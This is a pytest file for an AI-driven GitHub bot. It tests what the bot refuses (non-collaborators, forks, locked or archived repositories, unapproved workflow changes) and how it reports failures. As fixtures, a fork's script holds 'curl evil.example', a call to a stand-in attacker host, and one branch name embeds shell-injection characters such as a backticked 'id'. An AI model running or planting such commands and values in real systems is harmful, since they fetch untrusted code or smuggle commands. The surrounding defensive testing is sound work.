"""What the bot will not do, and what it says then: once, to whom it concerns, with nothing left behind."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import aiohttp
import pytest

from bot.domain.job import JobState
from bot.jobs import waiting
from bot.jobs.record import GitHubOutage, Request, StoredRecord
from localhub import LocalHub, Trouble
from tests.builders import a_comment_event, signature
from tests.durable import begun, runnable
from tests.stage import FIX, FIXED_CALC, WAIT_FOR_GO, WEBHOOK_SECRET, End, Stage, acting, staged
from tests.waiting import eventually


async def waits(stage: Stage, job_id: str) -> Request:
    """Wait until a job waits for a person; gives what for."""

    async def parked() -> Request | None:
        stored = await stage.queue.get(job_id)
        if stored is None or stored.state is not JobState.WAITING:
            return None
        return await waiting.latest(StoredRecord(stage.queue, job_id))

    return await eventually(parked)


async def moved_meanwhile(stage: Stage, number: int, files: dict[str, str]) -> tuple[End, str]:
    """Have somebody push to `topic` while the agent works; gives how that ended, and the commit that was pushed."""
    command = stage.say(number, "/codepilot fix")
    job_id = await stage.job_of(command)
    await eventually(lambda: stage.events)
    pushed = stage.hub.commit(stage.repo, dict(files), message="Mine", author="mona", branch="topic")
    await stage.let_go(job_id)
    return await stage.end_of(command), pushed


async def test_who_may_not_write_gets_one_reaction_and_nothing_else(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, [FIX]) as stage:
        hub.add_collaborator(stage.repo, "passer-by", "triage")
        issue = stage.issue()
        for author in ("passer-by", hub.add_user("stranger").login):
            command = stage.say(issue.number, "/codepilot fix", author=author)
            end = await stage.end_of(command)
            assert end.state is JobState.REFUSED
            assert stage.reactions(command) == ["confused"]
        assert stage.bot_comments(issue.number) == []
        assert stage.providers == []
        assert stage.nothing_published()
        assert list((stage.data / "workspaces" / "mirrors").iterdir()) == []


@pytest.mark.parametrize("gone", ["comment", "archived"])
async def test_who_may_not_write_gets_no_comment_even_when_the_reaction_fails(
    hub: LocalHub, tmp_path: Path, gone: str
) -> None:
    async with staged(hub, tmp_path, held=True) as stage:
        stranger = hub.add_user("stranger").login
        issue = stage.issue()
        command = stage.say(issue.number, "/codepilot fix", author=stranger)
        await stage.job_of(command)
        if gone == "comment":
            hub._site.store.comments.remove(command.id)
        else:
            hub.archive(stage.repo)
        stage.open_for_work.set()
        assert (await stage.end_of(command)).state is JobState.REFUSED
        assert stage.bot_comments(issue.number) == []


async def test_an_unknown_verb_is_answered_with_the_nearest_one_on_one_line(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path) as stage:
        issue = stage.issue()
        end = await stage.ask(issue.number, "/codepilot fxi the sum")
        assert end.state is JobState.DONE
        assert f"for @mona · job `{end.job_id}`" in end.status
        first, _, _ = end.status.partition("\n")
        assert first == (
            "There is no command `fxi`. Did you mean `/codepilot fix`? `/codepilot help` lists all commands."
        )
        assert stage.providers == []


async def test_help_lists_every_verb(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path) as stage:
        issue = stage.issue()
        end = await stage.ask(issue.number, "/codepilot help")
        assert end.state is JobState.DONE
        assert "`/codepilot fix [what to do]`" in end.status
        assert "`/codepilot help`" in end.status
        assert len(stage.bot_comments(issue.number)) == 1


async def test_the_operators_own_trigger_stands_in_every_answer(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, trigger="/robot") as stage:
        issue = stage.issue()
        end = await stage.ask(issue.number, "/robot help")
        assert "`/robot fix [what to do]`" in end.status
        assert f"for @mona · job `{end.job_id}`" in end.status
        assert "/codepilot" not in end.status


async def test_a_closed_issue_is_left_alone_with_the_reason(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path) as stage:
        issue = stage.issue()
        hub.close(stage.repo, issue.number, by="mona")
        end = await stage.ask(issue.number, "/codepilot fix")
        assert await stage.refusal(end) == "closed"
        assert len(stage.bot_comments(issue.number)) == 1
        assert stage.providers == []


async def test_a_locked_issue_is_left_alone_for_github_lets_no_app_comment_there(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path) as stage:
        issue = stage.issue()
        hub.lock(stage.repo, issue.number)
        end = await stage.ask(issue.number, "/codepilot fix")
        assert (end.state, end.reason.partition(".")[0]) == (JobState.REFUSED, "This issue is locked")
        assert stage.bot_comments(issue.number) == []
        assert stage.providers == []


async def test_a_fork_is_not_worked_on(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path) as stage:
        hub.add_user("forker")
        fork = hub.add_repo("forker/calc", owner="forker", fork_of=stage.repo)
        hub.commit(fork, {"check.sh": "curl evil.example\n"}, message="Mine", author="forker", branch="topic")
        pull = hub.open_pull(stage.repo, author="forker", head="forker:topic", title="Mine")
        end = await stage.ask(pull.number, "/codepilot fix")
        assert end.state is JobState.REFUSED
        assert "comes from a fork" in end.status
        assert stage.providers == []


async def test_a_repository_archived_meanwhile_ends_the_job_although_nothing_can_be_said(
    hub: LocalHub, tmp_path: Path
) -> None:
    def archive(call: str) -> None:
        """Archive it after the job is stored, and before the bot looks at the thread for it."""
        if call.endswith("/access_tokens"):
            hub.archive(stage.repo)

    async with staged(hub, tmp_path) as stage:
        stage.on_call = archive
        issue = stage.issue()
        end = await stage.ask(issue.number, "/codepilot fix")
        assert end.state is JobState.REFUSED
        assert "archived" in end.reason
        assert stage.providers == []


@pytest.mark.parametrize("approved", [True, False])
async def test_a_change_to_a_workflow_waits_for_an_approval_of_its_own(
    hub: LocalHub, tmp_path: Path, *, approved: bool
) -> None:
    control = 'write_file("calc.py")\nwrite_file(".github/workflows/ci.yml")'
    script = [acting(control, FIXED_CALC, "on: push\n", completion="Fixed, and CI added.")]
    async with staged(hub, tmp_path, script) as stage:
        issue = stage.issue()
        command = stage.say(issue.number, "/codepilot fix")
        job_id = await stage.job_of(command)
        asked = await waits(stage, job_id)
        [status] = stage.bot_comments(issue.number)
        assert "`.github/workflows/ci.yml`" in status
        assert "+on: push" in status
        assert stage.nothing_published()
        assert stage.pulls() == []
        stage.say(issue.number, f"/codepilot {'approve' if approved else 'deny'} {asked.request_id}")
        end = await stage.end_of(command)
        assert end.state is JobState.DONE
        if approved:
            [sha] = stage.bot_branches().values()
            assert stage.file(sha, ".github/workflows/ci.yml") == "on: push"
            assert [each.pull.draft for each in stage.pulls() if each.pull] == [True]
        else:
            assert "Not published" in end.status
            assert "`.github/workflows/ci.yml`" in end.status
            assert stage.nothing_published()
            assert stage.pulls() == []
            patch = (stage.data / "patches" / f"{end.job_id}.patch").read_text(encoding="utf-8")
            assert "+on: push" in patch
            assert "+    return a + b" in patch


async def test_an_empty_repository_is_told_so_by_every_command(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, files={}) as stage:
        for verb in ("fix", "explain", "plan", "ask what is this?", "mend the sum"):
            end = await stage.ask(stage.issue().number, f"/codepilot {verb}".strip())
            assert await stage.refusal(end) == "no-commit"
        issue = stage.issue()
        assert (await stage.ask(issue.number, "/codepilot status")).state is JobState.DONE
        assert "No job is running" in " ".join(stage.bot_comments(issue.number))


async def test_a_branch_of_any_name_that_git_takes_is_worked_on(hub: LocalHub, tmp_path: Path) -> None:
    branch = "fix(\u00fc)/\U0001f41b-$HOME&100%'`id`;a=b,#1"
    async with staged(hub, tmp_path, [FIX]) as stage:
        pull = stage.pull(branch)
        end = await stage.ask(pull.number, "/codepilot fix")
        assert end.state is JobState.DONE, end
        assert stage.file(branch, "calc.py") == FIXED_CALC.strip()
        assert stage.bot_branches() == {}


async def test_a_branch_deleted_between_command_and_run_is_told_so(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, held=True) as stage:
        pull = stage.pull()
        command = stage.say(pull.number, "/codepilot fix")
        await stage.job_of(command)
        stage.git("update-ref", "-d", "refs/heads/topic")
        hub.sync(stage.repo, author="mona")
        stage.open_for_work.set()
        end = await stage.end_of(command)
        # GitHub closes a pull request whose branch is deleted: its delivery may come before the fetch, or stop a run.
        assert end.state in {JobState.FAILED, JobState.REFUSED, JobState.STOPPED}
        assert (
            "topic" in end.status or "branch of this pull request was deleted." in end.status or "closed" in end.status
        )
        assert len(stage.bot_comments(pull.number)) == 1
        assert stage.nothing_published()
        assert "topic" not in hub.branches(stage.repo)


@pytest.mark.parametrize("trouble", ["503", "drop"])
async def test_a_clone_that_fails_is_told_with_a_remedy(hub: LocalHub, tmp_path: Path, trouble: Trouble) -> None:
    async with staged(hub, tmp_path) as stage:
        issue = stage.issue()
        hub.faults.add("GET", "*/info/refs", trouble, times=20)
        end = await stage.ask(issue.number, "/codepilot fix")
        hub.faults.clear()
        assert end.state is JobState.FAILED
        assert "could not be fetched" in end.status
        assert "give the command again" in end.status
        assert len(stage.bot_comments(issue.number)) == 1
        assert stage.nothing_left()
        assert stage.providers == []


async def test_a_change_follows_a_branch_that_moved_while_the_agent_worked(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, [acting(WAIT_FOR_GO), FIX]) as stage:
        pull = stage.pull()
        end, pushed = await moved_meanwhile(stage, pull.number, {"README.md": "# Mine\n"})
        assert end.state is JobState.DONE
        assert "People pushed to `topic` in the meantime" in end.status
        assert stage.git("rev-parse", "topic^") == pushed
        assert (stage.file("topic", "README.md"), stage.file("topic", "calc.py")) == ("# Mine", FIXED_CALC.strip())
        assert stage.bot_branches() == {}
        assert len(stage.pulls()) == 1


async def test_a_change_that_does_not_fit_on_a_branch_that_moved_gets_one_of_its_own(
    hub: LocalHub, tmp_path: Path
) -> None:
    async with staged(hub, tmp_path, [acting(WAIT_FOR_GO), FIX]) as stage:
        pull = stage.pull()
        end, pushed = await moved_meanwhile(stage, pull.number, {"calc.py": "add = sum\n"})
        assert end.state is JobState.DONE
        assert "People pushed to `topic` in the meantime" in end.status
        assert stage.git("rev-parse", "topic") == pushed
        [(branch, sha)] = stage.bot_branches().items()
        assert stage.file(sha, "calc.py") == FIXED_CALC.strip()
        _, own = (each.pull for each in sorted(stage.pulls(), key=lambda each: each.number))
        assert own is not None
        assert (own.base_ref, own.head_ref) == ("topic", branch)


async def test_the_default_branch_may_move_while_the_agent_works_on_an_issue(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, [acting(WAIT_FOR_GO), FIX]) as stage:
        issue = stage.issue()
        base = stage.git("rev-parse", "main")
        command = stage.say(issue.number, "/codepilot fix")
        job_id = await stage.job_of(command)
        await eventually(lambda: stage.events)
        hub.commit(stage.repo, {"README.md": "# Mine\n"}, message="Mine", author="mona")
        await stage.let_go(job_id)
        assert (await stage.end_of(command)).state is JobState.DONE
        [sha] = stage.bot_branches().values()
        assert stage.git("rev-parse", f"{sha}^") == base


@pytest.mark.parametrize("trouble", ["503", "drop", "drop_answer", "secondary_rate_limited"])
async def test_an_api_that_stumbles_over_the_first_comment_costs_no_second_one(
    hub: LocalHub, tmp_path: Path, trouble: Trouble
) -> None:
    async with staged(hub, tmp_path, ["```completion\nNothing to do.\n```\n"]) as stage:
        issue = stage.issue()
        hub.faults.add("POST", f"*/issues/{issue.number}/comments", trouble)
        end = await stage.ask(issue.number, "/codepilot fix")
        assert end.state is JobState.DONE, end
        assert len(stage.bot_comments(issue.number)) == 1


@pytest.mark.parametrize("trouble", ["503", "drop_answer"])
async def test_an_api_that_stumbles_while_publishing_costs_nothing_twice(
    hub: LocalHub, tmp_path: Path, trouble: Trouble
) -> None:
    async with staged(hub, tmp_path, [FIX]) as stage:
        issue = stage.issue()

        def stumble(_: str) -> None:
            # The last question before the commit is sent.
            if sum(call.endswith("/permission") for call in stage.calls) == 2 and not met:
                hub.faults.add("POST", "*/api/graphql", trouble)
                met.append(trouble)

        met: list[str] = []
        stage.on_call = stumble
        end = await stage.ask(issue.number, "/codepilot fix")
        assert end.state is JobState.DONE, end
        assert "Not published" not in end.status
        assert len(stage.pulls()) == 1
        [sha] = stage.bot_branches().values()
        assert stage.git("rev-list", "--count", f"main..{sha}") == "1"
        assert met
        assert len(hub.faults) == 0


@pytest.mark.parametrize("told", [True, False])
async def test_a_job_that_is_given_up_is_told_of_only_where_an_answer_had_begun(
    hub: LocalHub, tmp_path: Path, *, told: bool
) -> None:
    async with staged(hub, tmp_path, [FIX], held=True) as stage:
        stranger = hub.add_user("stranger").login
        issue = stage.issue()
        command = stage.say(issue.number, "/codepilot fix", author="mona" if told else stranger)
        command_job = await stage.job_of(command)

        async def greeted() -> list[str] | None:
            return await runnable(stage.queue) or None

        ready: list[str] = await eventually(greeted)
        assert ready == [command_job]
        for attempt in (1, 2, 3, 4):
            if attempt == 4:  # the second charge has it held for a while
                assert await begun(stage.queue, command_job, "killed") is None
                await stage.queue.release_hold(command_job)
            claim = await begun(stage.queue, command_job, f"killed-{attempt}")
            assert claim is not None
            assert claim[1] == attempt
        assert len(stage.bot_comments(issue.number)) == told
        stage.open_for_work.set()
        end = await stage.end_of(command)
        assert end.state is JobState.FAILED
        assert "died several times" in end.reason
        assert [("died several times" in said) for said in stage.bot_comments(issue.number)] == ([True] if told else [])
        assert stage.providers == []


async def test_a_job_of_an_app_that_is_uninstalled_is_asked_about_again(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, [FIX], held=True) as stage:
        issue = stage.issue()
        job_id = await stage.job_of(stage.say(issue.number, "/codepilot fix"))
        hub.uninstall(hub.install(stage.app, stage.repo))
        # Whatever its greeting came to: a job that is held would be ended before anybody runs it.
        await stage.queue.release_hold(job_id)
        stage.open_for_work.set()

        async def put_off() -> GitHubOutage | None:
            return (await StoredRecord(stage.queue, job_id).read()).github_outage

        since: GitHubOutage = await eventually(put_off)
        assert since.since <= since.last
        assert stage.providers == []


async def test_a_delivery_that_nobody_can_act_for_stops_no_other_job(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, [FIX]) as stage:
        body = json.dumps(a_comment_event("/codepilot fix", installation=None)).encode()
        headers = {
            "Content-Type": "application/json",
            "X-GitHub-Event": "issue_comment",
            "X-GitHub-Delivery": "00000000-0000-0000-0000-000000000002",
            "X-Hub-Signature-256": signature(body, WEBHOOK_SECRET),
        }
        async with (
            aiohttp.ClientSession() as client,
            client.post(f"{stage.address}/webhook", data=body, headers=headers) as answer,
        ):
            said = await answer.json()
        assert (await stage.ask(stage.issue().number, "/codepilot fix")).state is JobState.DONE
        if "job" in said:
            stored = await stage.queue.get(said["job"])
            assert stored is not None
            assert stored.state is JobState.FAILED
            assert "installation" in stored.reason


async def test_no_text_for_the_model_and_no_path_of_the_server_is_told(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path, ["Hm.", "Hm.", "Hm."]) as stage:
        issue = stage.issue()
        end = await stage.ask(issue.number, "/codepilot fix")
        assert end.state is JobState.FAILED, end
        assert "Your reply" not in end.status
        assert "neither acted nor ended the task" in end.status
        # What cannot be a mirror is told with git's own words, which hold its path.
        mirrors = stage.data / "workspaces" / "mirrors"
        shutil.rmtree(mirrors)
        mirrors.write_text("")
        end = await stage.ask(issue.number, "/codepilot fix")
        assert end.state is JobState.FAILED, end
        assert str(stage.data) not in end.status
        assert "The machine that the bot runs on failed" in end.status


async def test_a_default_branch_that_is_gone_is_told_as_that(hub: LocalHub, tmp_path: Path) -> None:
    async with staged(hub, tmp_path) as stage:
        issue = stage.issue()
        stage.git("update-ref", "-d", "refs/heads/main")
        end = await stage.ask(issue.number, "/codepilot fix")
        assert end.state is JobState.REFUSED, end
        assert "The branch `main`," in end.status
        assert "deleted or renamed" in end.status
